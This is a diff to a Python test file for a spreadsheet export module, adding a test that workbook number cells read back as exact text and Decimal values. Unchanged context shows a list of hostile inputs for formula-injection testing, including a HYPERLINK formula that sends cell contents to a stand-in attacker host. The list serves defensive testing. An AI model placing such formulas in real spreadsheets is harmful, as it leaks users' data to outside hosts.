@@ -14,7 +14,15 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from app.spreadsheets import csv_bytes, is_formula_like, safe_cell, sheet_title, xlsx_bytes
+from app.spreadsheets import (
+    NumberCell,
+    csv_bytes,
+    is_formula_like,
+    read_table,
+    safe_cell,
+    sheet_title,
+    xlsx_bytes,
+)
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Ver factura")',
@@ -192,3 +200,15 @@ def test_does_no_other_module_write_csv_or_xlsx():
         if path.name != "spreadsheets.py" and writers.search(path.read_text(encoding="utf-8"))
     ]
     assert offenders == []
+
+
+def test_does_a_workbooks_number_cell_read_back_as_the_number_it_holds():
+    """Text for callers that want text (never 1e-05), with the number kept beside it."""
+    data = xlsx_bytes([["A", 1.234, 1e-05, 1e16, 7702004003508, 0.1 + 0.2, "1.234", True]],
+                      header=["code", "a", "b", "c", "d", "e", "f", "g"], title="T")
+    (_line, cells), = read_table(data)[1:]
+    assert cells == ["A", "1.234", "0.00001", "10000000000000000", "7702004003508",
+                     "0.3", "1.234", "True"]  # the workbook keeps 15 digits
+    numbers = [cell.number if isinstance(cell, NumberCell) else None for cell in cells]
+    assert numbers == [None, Decimal("1.234"), Decimal("0.00001"), Decimal(10**16),
+                       Decimal(7702004003508), Decimal("0.3"), None, None]
